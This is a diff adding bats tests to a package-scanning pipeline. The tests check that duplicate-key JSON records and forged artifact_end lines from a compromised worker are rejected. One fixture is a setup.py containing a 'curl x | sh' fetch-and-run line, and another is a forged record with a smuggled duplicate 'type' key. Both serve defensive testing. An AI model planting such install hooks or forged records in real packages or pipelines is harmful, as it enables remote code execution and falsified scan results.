@@ -111,3 +111,51 @@ make_stream() {
 	assert_equal "$(printf '%s\n' "$output" | wc -l)" 4000
 	assert_equal "$(wc -l < "$BATS_TEST_TMPDIR/out")" 4000
 }
+
+@test "a record with a repeated key is an error record in every stage, never last-one-wins" {
+	for stage in $PASS_THROUGH; do
+		run --separate-stderr "$stage" < <(
+			printf '{"type":"note","v":1,"n":1}\n'
+			printf '{"type":"file","type":"artifact_end","artifact":"A","files":0,"complete":true}\n'
+			printf '{"type":"note","v":1,"n":{"k":1,"k":2}}\n'
+			printf '{"type":"note","v":1,"n":2}\n')
+		[ "$status" -eq 0 ] || fail "$stage exited $status: $stderr"
+		assert_valid_records
+		assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type!="error") | .n' | tr '\n' ,)" "1,2,"
+		assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
+			"<stdin>:2: invalid JSON at column 16: duplicate object key 'type'
+<stdin>:3: invalid JSON at column 33: duplicate object key 'k'"
+	done
+	# the sink too: the forged line is a bad line while A is open, so A is incomplete
+	run -2 --separate-stderr aura-score --format json < <(
+		printf '{"type":"artifact","v":1,"id":"A"}\n'
+		printf '{"type":"file","type":"artifact_end","artifact":"A","files":0,"complete":true}\n'
+		printf '{"type":"artifact_end","v":1,"artifact":"A","files":0,"complete":true}\n')
+	assert_equal "$(jq -c '[.complete, .incomplete_reasons]' <<<"$output")" \
+		'[false,["a bad input line while it was open (<stdin>:2)"]]'
+	[[ $stderr == *"<stdin>:2: invalid JSON at column 16: duplicate object key 'type'"* ]] || fail "$stderr"
+}
+
+@test "unpack relays a worker's line by its parsed type: a forged artifact_end is dropped, the artifact incomplete" {
+	local dir="$BATS_TEST_TMPDIR" id
+	printf 'import os\nos.system("curl x | sh")\n' > "$dir/setup.py"
+	tar -C "$dir" -czf "$dir/p.tar.gz" setup.py
+	id=$(sha256sum "$dir/p.tar.gz" | cut -d' ' -f1)
+	# (3>&-: the emitting self-test writes to every descriptor it has, and fd 3 is bats' own.)
+	# A compromised worker writes a record that starts like a file record but whose type,
+	# as the reader keeps the last duplicate, is a clean, complete artifact_end.
+	local forged='{"type":"file","type":"artifact_end","v":1,"artifact":"'"$id"'","files":0,"hits":0,"errors":0,"complete":true}'
+	run -0 --separate-stderr aura-unpack --sandbox-selftest "worker:emit:$forged" \
+		< <(jq -nc --arg t "$dir/p.tar.gz" '{type:"target",v:1,target:$t}' | aura-fetch) 3>&-
+	assert_valid_records
+	assert_equal "$(printf '%s\n' "$output" | jq -c 'select(.type=="artifact_end") | [.files,.errors,.complete]')" '[0,1,false]'
+	assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
+		"worker sent a line that is not a file, hit or error record (invalid JSON at column 16: duplicate object key 'type'); dropped"
+	run -2 aura-score --format json <<<"$output"
+	assert_equal "$(jq -c '[.artifact.id == "'"$id"'", .complete]' <<<"$output")" '[true,false]'
+	# another record type, well-formed, is refused as well
+	run -0 --separate-stderr aura-unpack --sandbox-selftest 'worker:emit:{"type":"artifact_end","v":1,"artifact":"x"}' \
+		< <(jq -nc --arg t "$dir/p.tar.gz" '{type:"target",v:1,target:$t}' | aura-fetch) 3>&-
+	assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
+		"worker sent a line that is not a file, hit or error record (a record of type 'artifact_end', not one this stage relays); dropped"
+}
